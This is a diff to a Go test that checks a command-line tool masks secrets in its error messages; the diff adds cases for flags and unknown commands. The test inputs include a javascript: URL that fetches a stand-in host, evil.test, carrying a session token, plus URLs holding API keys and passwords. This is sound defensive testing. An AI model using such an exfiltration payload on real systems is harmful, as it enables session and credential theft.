@@ -131,6 +131,10 @@ func TestBadInputHidesSecrets(t *testing.T) {
 		"mailto url":    {"query", "--url", "mailto:alice.smith@example.com"},
 		"javascript":    {"query", "--url", `javascript:fetch("https://evil.test/?session=` + token + `")`},
 		"step url":      {"step", "--session", "s1", "--step", `{"action":"click","url":"ftp://x.test/?api_key=` + token + `"}`},
+		"outcome flag":  {"save", "--url", testURL, "--outcome", token, "--trace", trace},
+		"kind flag":     {"list", "--kind", token},
+		"unknown flag":  {"list", "--" + token},
+		"unknown cmd":   {token},
 		"learned route": {"pattern", "learn", "--url", "file:///home/alice/?password=hunter2hunter2", "--name", "n", "--success-indicator", "#done", "--steps", `[{"action":"navigate","url":"https://x.test/"}]`},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -143,8 +147,8 @@ func TestBadInputHidesSecrets(t *testing.T) {
 					t.Errorf("stderr repeats a secret: %q", r.stderr)
 				}
 			}
-			if !strings.Contains(r.stderr, "url") {
-				t.Errorf("stderr does not name the field: %q", r.stderr)
+			if !strings.Contains(r.stderr, "{{") {
+				t.Errorf("stderr shows no masked value: %q", r.stderr)
 			}
 		})
 	}
